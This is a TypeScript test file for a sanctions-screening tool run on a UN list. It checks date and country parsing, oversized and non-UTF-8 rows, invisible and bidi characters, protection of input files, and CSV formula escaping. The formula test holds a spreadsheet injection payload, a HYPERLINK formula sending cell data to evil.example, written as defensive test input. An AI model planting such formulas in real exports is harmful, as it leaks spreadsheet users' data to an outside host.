/**
 * End-to-end, issue 11 points 4, 4b, 5, 6 and 7 as a user meets them on the real UN list: every
 * input row gives one output row and is screened unless it has no usable name; a bad qualifier
 * costs the row that value, with a warning; invisible characters do not hide a name; the output
 * never overwrites the input; CSV cells never reach a spreadsheet as formulas.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  linkSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import { csvFields } from '../../src/engine/batch/records.ts';
import { embargo, tempDir } from '../helpers/cli.ts';
import { listPath, needsData } from '../helpers/data.ts';

interface OutLine {
  row: number;
  id?: string;
  input?: { properties?: Record<string, string[]> };
  results?: { id: string; match: boolean; matched_name: string }[];
  error?: { code: string; message: string };
  warnings?: string[];
}

const jsonLines = (path: string): OutLine[] =>
  readFileSync(path, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as OutLine);

/** The rows of a CSV output (header first), read as a spreadsheet would, quoted newlines kept. */
const csvRows = (path: string): string[][] => {
  const rows: string[][] = [];
  let pending = '';
  for (const line of readFileSync(path, 'utf8').split('\n')) {
    pending = pending ? `${pending}\n${line}` : line;
    if ((pending.match(/"/g) ?? []).length % 2) continue; // inside a quoted field
    if (pending) rows.push(csvFields(pending));
    pending = '';
  }
  return rows;
};

const sha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');

describe('rows and files (issue 11)', needsData('un_sc', '2026-02-27'), () => {
  const home = tempDir();
  const dir = tempDir('embargo-rows-');

  before(() => {
    const load = embargo(home, 'lists', 'load', 'un_sc', listPath('un_sc', '2026-02-27'));
    assert.equal(load.status, 0, load.stderr);
  });

  test('4b: loose dates of birth and a bad country cost the value, never the screening', () => {
    // [dob, warnings expected for the row's dropped values]
    const rows: [string, string, number][] = [
      ['1971-3-5', 'KP', 0],
      ['1980-02-30', 'KP', 1], // impossible day: year and month kept
      ['05/03/1971', 'KP', 1], // day and month ambiguous: the year kept
      ['03/05/1971', '', 1],
      ['25/03/1971', '', 0],
      ['5 Mar 1971', '', 0],
      ['March 5 1971', '', 0],
      ['March 1971', '', 0],
      ['5 de marzo de 1971', '', 0],
      ['unknown', '', 1], // dropped
      ['1971', 'Atlantis', 1], // country dropped
      ['around 1971', 'Narnia', 2],
    ];
    const input = join(dir, 'loose.csv');
    writeFileSync(
      input,
      'ref,name,dob,country\n' +
        rows.map(([dob, c], i) => `R${i + 1},Ri Hong Sop,"${dob}",${c}`).join('\n') +
        '\n',
    );
    const output = join(dir, 'loose.jsonl');
    const r = embargo(
      home,
      'screen',
      '--input',
      input,
      '--output',
      output,
      '--id-col',
      'ref',
      '--dob-col',
      'dob',
      '--country-col',
      'country',
    );
    assert.equal(r.status, 0, `warnings only: exit 0; stderr: ${r.stderr}`);
    const warned = rows.filter(([, , n]) => n > 0).length;
    assert.match(
      r.stderr,
      new RegExp(`screened 12 rows: \\d+ matched, 0 failed, ${warned} with warnings`),
    );
    const out = jsonLines(output);
    assert.deepEqual(
      out.map((l) => l.row),
      rows.map((_, i) => i + 1),
    );
    for (const [i, line] of out.entries()) {
      assert.equal(line.error, undefined, `row ${i + 1} refused: ${line.error?.message}`);
      assert.ok(
        line.results?.some((x) => x.matched_name === 'RI HONG-SOP'),
        `row ${i + 1} screened`,
      );
      assert.equal(line.warnings?.length ?? 0, rows[i]![2], `row ${i + 1}: ${line.warnings}`);
      // The input is echoed as given, not as cleaned.
      assert.deepEqual(line.input?.properties?.birthDate, [rows[i]![0]]);
    }
    assert.match(out[1]!.warnings![0]!, /"1980-02-30" is not a calendar date; kept 1980-02/);
    assert.match(out[2]!.warnings![0]!, /"05\/03\/1971": day and month are ambiguous/);
    assert.match(out[10]!.warnings![0]!, /nationality "Atlantis" is not a country/);
  });

  test('4: a 10 MB line is one error row naming its line; the rows after it are screened', () => {
    const input = join(dir, 'long.csv');
    writeFileSync(
      input,
      `name,country\nKim Jong Sik,KP\n${'x'.repeat(10 * 1024 * 1024)},KP\nRi Hong Sop,KP\nPak Pong Ju,\n`,
    );
    const output = join(dir, 'long.jsonl');
    const r = embargo(
      home,
      'screen',
      '--input',
      input,
      '--output',
      output,
      '--country-col',
      'country',
    );
    assert.equal(r.status, 3, 'a row that could not be screened: exit 3');
    const out = jsonLines(output);
    assert.deepEqual(
      out.map((l) => [l.row, l.error?.code ?? 'ok']),
      [
        [1, 'ok'],
        [2, 'E_INPUT_REFUSED'],
        [3, 'ok'],
        [4, 'ok'],
      ],
    );
    assert.match(out[1]!.error!.message, /^line 3: a record of [\d,]+ bytes/);
    assert.ok(out[2]!.results!.some((x) => x.match && x.matched_name === 'RI HONG-SOP'));
    assert.match(r.stderr, /screened 4 rows: \d+ matched, 1 failed/);
  });

  test('4: a quoted name holding a line break, and a Latin-1 byte, are screened', () => {
    const input = join(dir, 'bytes.csv');
    writeFileSync(
      input,
      Buffer.concat([
        Buffer.from('name\n"Ri Hong\nSop"\nRi Hong Sop M'),
        Buffer.from([0xfc]), // ü in Latin-1: not UTF-8
        Buffer.from('ller\nKim Jong Sik\n'),
      ]),
    );
    const output = join(dir, 'bytes.jsonl');
    const r = embargo(home, 'screen', '--input', input, '--output', output);
    assert.equal(r.status, 0, r.stderr);
    const out = jsonLines(output);
    assert.equal(out.length, 3);
    for (const l of out) assert.equal(l.error, undefined, l.error?.message);
    assert.ok(out[0]!.results!.some((x) => x.match && x.matched_name === 'RI HONG-SOP'));
    assert.deepEqual(out[0]!.input?.properties?.name, ['Ri Hong\nSop']);
    assert.deepEqual(out[1]!.input?.properties?.name, ['Ri Hong Sop M\uFFFDller']);
    assert.match(out[1]!.warnings!.join(), /not UTF-8, replaced with U\+FFFD/);
    assert.ok(out[1]!.results!.some((x) => x.matched_name === 'RI HONG-SOP'));

    // Compare reads its pairs the same way: the pair is compared, the odd byte reported.
    const pairs = join(dir, 'pairs.csv');
    writeFileSync(
      pairs,
      Buffer.concat([
        Buffer.from('name1,name2\n"Ri Hong\nSop",RI HONG-SOP\nM'),
        Buffer.from([0xfc]),
        Buffer.from('ller,Mueller\n'),
      ]),
    );
    const compared = join(dir, 'pairs.jsonl');
    const c = embargo(home, 'compare', '--input', pairs, '--output', compared);
    assert.equal(c.status, 0, c.stderr);
    const lines = jsonLines(compared) as (OutLine & { match?: boolean; score?: number })[];
    assert.deepEqual(
      lines.map((l) => [l.row, l.error, l.warnings?.length ?? 0]),
      [
        [1, undefined, 0],
        [2, undefined, 1],
      ],
    );
    assert.equal(lines[0]!.match, true);
  });

  test('5: invisible characters hide no name, in a single screening and in a batch', () => {
    const hidden = ['Kim\u200bJong\u200bSik', 'Kim\u2060Jong\u2060Sik', '\u202ekiS gnoJ miK'];
    for (const name of hidden) {
      const r = embargo(home, 'screen', name, '--json', '--fail-on-match');
      assert.equal(r.status, 1, `${JSON.stringify(name)} matches: ${r.stdout.slice(0, 300)}`);
      const body = JSON.parse(r.stdout) as { input: { properties: { name: string[] } } };
      assert.deepEqual(body.input.properties.name, [name], 'echoed as given');
    }
    const input = join(dir, 'hidden.csv');
    writeFileSync(input, `name\n${hidden.join('\n')}\n`);
    const output = join(dir, 'hidden.csv.out.csv');
    assert.equal(embargo(home, 'screen', '--input', input, '--output', output).status, 0);
    const [header, ...rows] = csvRows(output);
    const col = (c: string) => header!.indexOf(c);
    assert.deepEqual(
      rows.map((x) => [x[col('match')], x[col('top_name')]]),
      hidden.map(() => ['true', 'KIM JONG SIK']),
    );
    // The name column: as given, except the bidi override, which a spreadsheet would obey.
    assert.deepEqual(
      rows.map((x) => x[col('name')]),
      ['Kim\u200bJong\u200bSik', 'Kim\u2060Jong\u2060Sik', 'kiS gnoJ miK'],
    );
  });

  test('6: an output that is the input, a symlink or a hard link to it is refused, the input intact', () => {
    const input = join(dir, 'keep.csv');
    writeFileSync(input, 'name,name1,name2\nRi Hong Sop,Ri Hong Sop,RI HONG-SOP\n');
    const before = sha(input);
    const symlink = join(dir, 'keep-symlink.csv');
    symlinkSync(input, symlink);
    const hardlink = join(dir, 'keep-hardlink.csv');
    linkSync(input, hardlink);
    const cases: [string, string][] = [
      ['screen', input],
      ['screen', join(dir, '.', 'keep.csv')],
      ['screen', symlink],
      ['screen', hardlink],
      ['compare', symlink],
      ['compare', hardlink],
    ];
    for (const [cmd, output] of cases) {
      {
        const r = embargo(home, cmd, '--input', input, '--output', output);
        assert.equal(r.status, 3, `${cmd} --output ${output}: ${r.stderr}`);
        assert.ok(r.stderr.includes(output) && r.stderr.includes(input), r.stderr);
        assert.equal(sha(input), before, `${cmd} --output ${output} left the input as it was`);
      }
    }
    const book = join(dir, 'book.jsonl');
    copyFileSync(join('test', 'fixtures', 'trade', 'petroleum-book.jsonl'), book);
    const bookSum = sha(book);
    const bookLink = join(dir, 'book-link.jsonl');
    symlinkSync(book, bookLink);
    for (const output of [book, bookLink]) {
      const t = embargo(home, 'trade', 'check', '--input', book, '--output', output);
      assert.equal(t.status, 3, t.stderr);
      assert.equal(sha(book), bookSum, 'the book is intact');
    }
    {
      const output = bookLink;
      const s = embargo(
        home,
        'scenario',
        'run',
        'hanoi-2019-us-account',
        '--book',
        book,
        '--output',
        output,
      );
      assert.equal(s.status, 3, s.stderr);
      assert.equal(sha(book), bookSum, 'the book is intact');
    }
  });

  test('6: outputs are written whole: no temporary file is left beside them', () => {
    const out = tempDir('embargo-out-');
    const input = join(dir, 'whole.csv');
    writeFileSync(input, 'name\nRi Hong Sop\n');
    assert.equal(
      embargo(home, 'screen', '--input', input, '--output', join(out, 'o.csv')).status,
      0,
    );
    assert.deepEqual(readdirSync(out), ['o.csv']);
    // A run refused before writing leaves no output at all.
    const r = embargo(
      home,
      'screen',
      '--input',
      input,
      '--output',
      join(out, 'p.csv'),
      '--name-col',
      'nope',
    );
    assert.equal(r.status, 2);
    assert.equal(existsSync(join(out, 'p.csv')), false);
    assert.deepEqual(readdirSync(out), ['o.csv']);
  });

  test('7: CSV output cells that a spreadsheet would run as formulas are escaped', () => {
    const input = join(dir, 'formula.csv');
    writeFileSync(
      input,
      'ref,name\n+1,=HYPERLINK("http://evil.example/?x="&A1)\n-2,-Ri Hong Sop\n@3, @SUM(A1)\n4,\tRi Hong Sop\n',
    );
    const output = join(dir, 'formula.out.csv');
    const r = embargo(home, 'screen', '--input', input, '--output', output, '--id-col', 'ref');
    assert.equal(r.status, 0, r.stderr);
    const [header, ...rows] = csvRows(output);
    for (const row of rows)
      for (const [i, cell] of row.entries())
        assert.doesNotMatch(cell, /^\s*[=+\-@\t\r]/, `${header![i]} cell ${JSON.stringify(cell)}`);
    const col = (c: string) => header!.indexOf(c);
    assert.deepEqual(
      rows.map((x) => [x[col('id')], x[col('name')]]),
      [
        ["'+1", '\'=HYPERLINK("http://evil.example/?x="&A1)'],
        ["'-2", "'-Ri Hong Sop"],
        ["'@3", "'@SUM(A1)"],
        ['4', 'Ri Hong Sop'],
      ],
    );
    // The screening itself saw the name as given: "-Ri Hong Sop" still finds RI HONG-SOP.
    assert.equal(rows[1]![col('top_name')], 'RI HONG-SOP');
  });
});
